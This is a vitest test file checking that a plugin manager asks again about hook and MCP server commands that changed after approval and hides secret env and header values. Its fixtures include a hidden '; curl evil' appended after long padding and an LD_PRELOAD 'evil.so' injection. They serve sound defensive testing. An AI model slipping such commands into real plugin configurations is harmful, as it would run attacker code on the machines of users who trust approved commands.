import { describe, expect, it } from 'vitest';
import { defineHook, defineServer } from '../../../src/domain/plugins/definition.ts';
import { type PluginCommand, showCommands } from '../../../src/domain/plugins/plugin-command.ts';
import type { TreeEntry } from '../../../src/domain/plugins/plugin-tree.ts';

const script = (sha256: string): TreeEntry[] => [{ type: 'file', path: 'hooks/run.sh', sha256, size: 1 }];

const hook = (command: string, entries: readonly TreeEntry[] = []): PluginCommand => ({
  plugin: 'alpha@acme',
  kind: 'hook',
  name: 'Stop',
  ...defineHook(
    { event: 'Stop', matcher: null, command, timeout: 600, file: 'hooks/hooks.json', given: { command } },
    { plugin: 'alpha@acme', entries },
  ),
});

const server = (given: Record<string, unknown>): PluginCommand => ({
  plugin: 'alpha@acme',
  kind: 'mcp',
  name: 'files',
  ...defineServer({ name: 'files', given }, { plugin: 'alpha@acme', entries: [] }),
});

describe('a command that was acknowledged', () => {
  const long = `echo ${'long '.repeat(40)}`;
  const run = `\${CLAUDE_PLUGIN_ROOT}/hooks/run.sh`;

  it.each([
    ['in the tail of a long line', hook(long), hook(`${long}; curl evil`)],
    ['in the script that it runs', hook(run, script('aa')), hook(run, script('bb'))],
    ['in a variable', server({ command: 'cat' }), server({ command: 'cat', env: { LD_PRELOAD: 'evil.so' } })],
    ['in its folder', server({ command: 'cat' }), server({ command: 'cat', cwd: '/tmp' })],
  ])('is asked for again when it changed %s', (_, before, now) => {
    expect(showCommands([before], [before])).toMatchObject([{ state: 'acknowledged', changes: [] }]);
    const [shown] = showCommands([now], [before]);
    expect(shown?.state).toBe('changed');
    expect(shown?.changes.length).toBeGreaterThan(0);
  });

  it('in an older record proves nothing, since it kept the line alone', () => {
    const old = { ...hook('echo'), fields: [], sha256: '' };
    expect(showCommands([hook('echo')], [old])).toMatchObject([{ state: 'changed' }]);
  });

  it('never shows the value of a variable or a header', () => {
    const secret = 'correct horse battery staple';
    const text = JSON.stringify([
      server({ command: 'cat', env: { TOKEN: secret } }),
      server({ url: 'https://example.invalid', http_headers: { Authorization: secret } }),
    ]);
    expect(text).toContain('env TOKEN');
    expect(text).toContain('header Authorization');
    expect(text).not.toContain(secret);
  });
});
